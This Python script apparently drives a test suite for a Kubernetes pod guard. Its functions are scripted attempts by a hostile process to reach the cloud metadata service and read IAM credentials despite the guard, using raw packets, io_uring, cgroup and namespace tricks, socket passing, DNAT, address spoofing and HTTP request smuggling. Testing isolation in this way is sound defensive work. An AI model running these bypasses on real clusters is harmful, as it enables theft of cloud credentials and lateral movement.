"""Attempts of a hostile process in a pod. The first argument names the attempt, the others are its own.

An attempt prints what it heard, if anything. That it fails is no error of this program's.
"""
import ctypes
import os
import signal
import socket
import struct
import sys
import time

V4, MAPPED, V6 = "169.254.169.254", "::ffff:169.254.169.254", "fd00:ec2::254"
ADDRESSES = {"v4": V4, "mapped": MAPPED, "v6": V6}
MPTCP, FASTOPEN = 262, 0x20000000
REQUEST = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
LIMIT = 0.4


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def stream(address, protocol=0):
    sock = socket.socket(family(address), socket.SOCK_STREAM, protocol)
    sock.settimeout(LIMIT)
    return sock


def talk(sock, request=REQUEST):
    """Sends a request, and prints the whole answer."""
    sock.settimeout(2)
    sock.sendall(request)
    while heard := sock.recv(4096):
        sys.stdout.write(heard.decode(errors="replace"))


def tcp(which, port="80"):
    sock = stream(ADDRESSES[which])
    sock.connect((ADDRESSES[which], int(port)))
    talk(sock)


def mptcp(which):
    sock = stream(ADDRESSES[which], MPTCP)
    sock.connect((ADDRESSES[which], 80))
    talk(sock)


def fast_open(which):
    sock = socket.socket(family(ADDRESSES[which]), socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 1, 0))
    sock.sendto(REQUEST, FASTOPEN, (ADDRESSES[which], 80))
    talk(sock, b"")


def bind_first(which):
    sock = stream(ADDRESSES[which])
    sock.bind(("::" if ":" in ADDRESSES[which] else "0.0.0.0", 0))
    sock.connect((ADDRESSES[which], 80))
    talk(sock)


def again(which):
    """One socket, not blocking, that connects again and again."""
    sock = socket.socket(family(ADDRESSES[which]), socket.SOCK_STREAM)
    sock.setblocking(False)
    for _ in range(20):
        sock.connect_ex((ADDRESSES[which], 443))
        sock.connect_ex((ADDRESSES[which], 80))
        time.sleep(0.01)
    talk(sock)


def marked(which):
    sock = stream(ADDRESSES[which])
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    sock.connect((ADDRESSES[which], 80))
    talk(sock)


def udp(which, port="80"):
    sock = socket.socket(family(ADDRESSES[which]), socket.SOCK_DGRAM)
    sock.sendto(b"x", (ADDRESSES[which], int(port)))


def udp_connected(which):
    sock = socket.socket(family(ADDRESSES[which]), socket.SOCK_DGRAM)
    sock.connect((ADDRESSES[which], 80))
    sock.send(b"x")


def optioned(which):
    """IP options, which make the header longer."""
    sock = stream(ADDRESSES[which])
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x01\x01\x01\x01")
    sock.connect((ADDRESSES[which], 80))
    talk(sock)


def udp_optioned(which):
    sock = socket.socket(family(ADDRESSES[which]), socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x01\x01\x01\x01")
    sock.sendto(b"x", (ADDRESSES[which], 80))


def ping(which):
    if which == "v6":
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        sock.sendto(struct.pack("!BBHHH", 128, 0, 0, 1, 1), (V6, 0))
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        sock.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FD, 1, 1), (V4, 0))


def sum16(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def own(which):
    probe = socket.socket(family(ADDRESSES[which]), socket.SOCK_DGRAM)
    # To an address at the same distance that is not guarded.
    probe.connect(("fd00:ec2::1" if which == "v6" else "169.254.169.1", 9))
    return probe.getsockname()[0]


def datagram(which):
    """An IP packet with a UDP datagram to the metadata service, whole."""
    payload = b"by hand"
    length = 8 + len(payload)
    header = lambda check: struct.pack("!HHHH", 40000, 80, length, check)
    if which == "v6":
        addresses = socket.inet_pton(socket.AF_INET6, own(which)) + socket.inet_pton(socket.AF_INET6, V6)
        check = sum16(addresses + struct.pack("!II", length, 17) + header(0) + payload)
        return struct.pack("!IHBB", 6 << 28, length, 17, 64) + addresses + header(check) + payload
    addresses = socket.inet_aton(own(which)) + socket.inet_aton(V4)
    ip = lambda check: struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 1, 0, 64, 17, check)
    return ip(sum16(ip(0) + addresses)) + addresses + header(0) + payload


def raw(which):
    """The IP header is the attacker's too."""
    if which == "v6":
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        sock.sendto(datagram(which), (V6, 0))
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        sock.sendto(datagram(which), (V4, 0))


def frame(which):
    """An Ethernet frame, below all sockets, to the next hop."""
    import subprocess

    ip = ["ip", "-6" if which == "v6" else "-4"]
    target = "fd00:ec2::1" if which == "v6" else "169.254.169.1"
    words = subprocess.run(ip + ["route", "get", target], capture_output=True, text=True).stdout.split()
    hop, device = words[words.index("via") + 1], words[words.index("dev") + 1]
    for _ in range(50):
        probe = socket.socket(family(hop), socket.SOCK_DGRAM)
        probe.sendto(b"x", (hop, 9, 0, socket.if_nametoindex(device)) if ":" in hop else (hop, 9))
        words = subprocess.run(ip + ["neigh", "show", hop], capture_output=True, text=True).stdout.split()
        if "lladdr" in words:
            break
        time.sleep(0.02)
    neighbour = bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))
    kind = 0x86DD if which == "v6" else 0x0800
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((device, kind))
    sock.send(neighbour + sock.getsockname()[4] + struct.pack("!H", kind) + datagram(which))


def by_ring(which):
    """A connect that no system call of that name makes (io_uring)."""
    import mmap

    libc = ctypes.CDLL(None, use_errno=True)
    parameters = (ctypes.c_uint32 * 30)()
    ring = libc.syscall(425, 4, ctypes.byref(parameters))
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    # include/uapi/linux/io_uring.h: the offsets of the submission ring begin with the tenth word,
    # those of the completion ring with the twentieth.
    entries, completions = parameters[0], parameters[1]
    _, tail, _, _, _, _, array = parameters[10:17]
    rings = mmap.mmap(ring, max(array + entries * 4, parameters[25] + completions * 16), offset=0)
    sqes = mmap.mmap(ring, entries * 64, offset=0x10000000)
    sock = stream(ADDRESSES[which])
    sock.setblocking(True)
    address = struct.pack("=H", family(ADDRESSES[which])) + struct.pack("!H", 80)
    if which == "v4":
        address += socket.inet_aton(V4) + bytes(8)
    else:
        address += bytes(4) + socket.inet_pton(socket.AF_INET6, ADDRESSES[which]) + bytes(4)
    kept = ctypes.create_string_buffer(address, len(address))
    # IORING_OP_CONNECT: the address's length is where an offset would be.
    sqes[0:32] = struct.pack("=BBHiQQI", 16, 0, 0, sock.fileno(), len(address), ctypes.addressof(kept), 0) + bytes(4)
    rings[array : array + 4] = struct.pack("=I", 0)
    rings[tail : tail + 4] = struct.pack("=I", 1)
    if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:
        raise OSError(ctypes.get_errno(), "io_uring_enter")
    talk(sock)


def source_routed(which):
    """Through the node, with the service as the next hop (RFC 791, loose source route)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    route = b"\x83\x07\x04" + socket.inet_aton(V4) + b"\x01"
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route)
    sock.sendto(b"x", ("169.254.169.1", 80))


def own_dnat(which):
    """Another address, which the pod's own firewall turns into the service's."""
    rule = "OUTPUT -d 198.51.100.9/32 -p tcp -j DNAT --to-destination 169.254.169.254:80"
    if os.system(f"iptables -w -t nat -A {rule} 2>/dev/null"):
        raise OSError("no iptables")
    try:
        sock = stream(V4)
        sock.connect(("198.51.100.9", 80))
        talk(sock)
    finally:
        os.system(f"iptables -w -t nat -D {rule}")


def own_cgroup(name):
    """Enters a cgroup that it made below its pod's."""
    with open("/proc/self/cgroup") as lines:
        path = next(line[3:].strip() for line in lines if line.startswith("0::"))
    with open("/proc/self/mounts") as lines:
        root = next(line.split()[1] for line in lines if line.split()[2] == "cgroup2")
    folder = f"{root}{path}/{name}"
    os.makedirs(folder, exist_ok=True)
    with open(f"{folder}/cgroup.procs", "w") as processes:
        processes.write(str(os.getpid()))


def moved(which):
    """A socket from before the process entered another cgroup."""
    sock = stream(ADDRESSES[which])
    own_cgroup("elsewhere")
    sock.connect((ADDRESSES[which], 80))
    talk(sock)


def disguised(name, path):
    """From a cgroup with the name of the victim's."""
    own_cgroup(name)
    sock = stream(V4)
    sock.connect((V4, 80))
    talk(sock, f"GET {path} HTTP/1.1\r\nHost: {V4}\r\nConnection: close\r\n\r\n".encode())


def passed_on(which):
    """A socket that another process made, which is gone when this one connects it."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    if os.fork() == 0:
        try:
            own_cgroup("maker")
            made = stream(ADDRESSES[which])
            socket.send_fds(theirs, [b"x"], [made.fileno()])
        finally:
            os._exit(0)
    ours.settimeout(5)
    _, [made], _, _ = socket.recv_fds(ours, 1, 1)
    os.wait()
    sock = socket.socket(fileno=made)
    sock.settimeout(LIMIT)
    sock.connect((ADDRESSES[which], 80))
    talk(sock)


def lend(path):
    """Run in the victim: connects the socket that it is given, and gives it back."""
    door = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    door.bind(path)
    door.listen()
    print("lending", flush=True)
    guest, _ = door.accept()
    _, [made], _, _ = socket.recv_fds(guest, 1, 1)
    sock = socket.socket(fileno=made)
    sock.settimeout(2)
    sock.connect((V4, 80))
    guest.send(b"x")
    time.sleep(3)


def borrow(door, path):
    """Has the victim connect a socket, and sends a request on it."""
    sock = stream(V4)
    guest = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    guest.connect(door)
    socket.send_fds(guest, [b"x"], [sock.fileno()])
    guest.recv(1)
    talk(sock, f"GET {path} HTTP/1.1\r\nHost: {V4}\r\nConnection: close\r\n\r\n".encode())


def hold(which):
    """A connection from before the node is guarded, used once it is."""
    sock = stream(ADDRESSES[which])
    sock.connect((ADDRESSES[which], 80))
    print("connected", flush=True)
    signal.sigwait({signal.SIGUSR1})
    for _ in range(3):
        sock.send(REQUEST)
        time.sleep(0.1)
    sock.settimeout(1)
    try:
        heard = sock.recv(4096).decode(errors="replace")
    except OSError as error:
        heard = f"failed: {error}"
    print(f"heard {heard}", flush=True)


def new_namespaces(which):
    """A user and network namespace of its own, and no way out of it but by the hooks."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x40000000):
        raise OSError(ctypes.get_errno(), "unshare")
    sock = stream(ADDRESSES[which])
    sock.connect((ADDRESSES[which], 80))
    talk(sock)


def own_nat(address):
    """The metadata service's address on the pod's own loopback, sent on by hand to the agent."""
    os.system("ip link set lo up; ip addr add 169.254.169.254/32 dev lo 2>/dev/null")
    try:
        sock = stream(V4)
        sock.connect((V4, 80))
        talk(sock)
    finally:
        os.system("ip addr del 169.254.169.254/32 dev lo")


def http(address, port, path, *headers):
    """A request to the agent's own port, or any other, with the given headers."""
    sock = socket.socket(family(address), socket.SOCK_STREAM)
    sock.settimeout(2)
    sock.connect((address, int(port)))
    head = "".join(f"{header}\r\n" for header in headers)
    talk(sock, f"GET {path} HTTP/1.1\r\nHost: {V4}\r\n{head}Connection: close\r\n\r\n".encode())


def host(name, path):
    """A request for another host than the service."""
    sock = stream(V4)
    sock.connect((V4, 80))
    talk(sock, f"GET {path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())


def smuggle(path):
    """A second request in the body of the first, by two lengths that disagree."""
    inner = f"GET {path} HTTP/1.1\r\nHost: {V4}\r\nConnection: close\r\n\r\n"
    outer = (
        f"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: {V4}\r\n"
        f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    )
    sock = stream(V4)
    sock.connect((V4, 80))
    talk(sock, (outer + inner).encode())


def spoof(source, path):
    """Another pod's address, taken for this one."""
    # The owner has the address already, and keeps it.
    added = os.system(f"ip addr add {source}/32 dev eth0 2>/dev/null") == 0
    try:
        sock = stream(V4)
        sock.bind((source, 0))
        sock.connect((V4, 80))
        talk(sock, f"GET {path} HTTP/1.1\r\nHost: {V4}\r\nConnection: close\r\n\r\n".encode())
    finally:
        if added:
            os.system(f"ip addr del {source}/32 dev eth0")


def count():
    """Run at the service: a line for each packet that is delivered to one of its addresses."""
    import select

    v4 = {}
    for protocol in (socket.IPPROTO_TCP, socket.IPPROTO_UDP, socket.IPPROTO_ICMP):
        v4[socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)] = protocol
    v6 = {}
    for protocol in (socket.IPPROTO_TCP, socket.IPPROTO_UDP, socket.IPPROTO_ICMPV6):
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, protocol)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RECVPKTINFO, 1)
        v6[sock] = protocol
    wanted4, wanted6 = socket.inet_aton(V4), socket.inet_pton(socket.AF_INET6, V6)
    print("counting", flush=True)
    while True:
        for sock in select.select([*v4, *v6], [], [])[0]:
            if sock in v4:
                packet = sock.recv(4096)
                # Packets from the node to itself are from no pod.
                if packet[16:20] == wanted4 and packet[12:16] != wanted4:
                    print(f"packet v4 {v4[sock]}", flush=True)
            else:
                _, control, _, source = sock.recvmsg(4096, 1024)
                for level, kind, data in control:
                    if kind == socket.IPV6_PKTINFO and data[:16] == wanted6 and source[0] != V6:
                        print(f"packet v6 {v6[sock]}", flush=True)


# Before anything can send it.
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
try:
    globals()[sys.argv[1]](*sys.argv[2:])
except OSError as error:
    print(f"\nfailed: {error}")
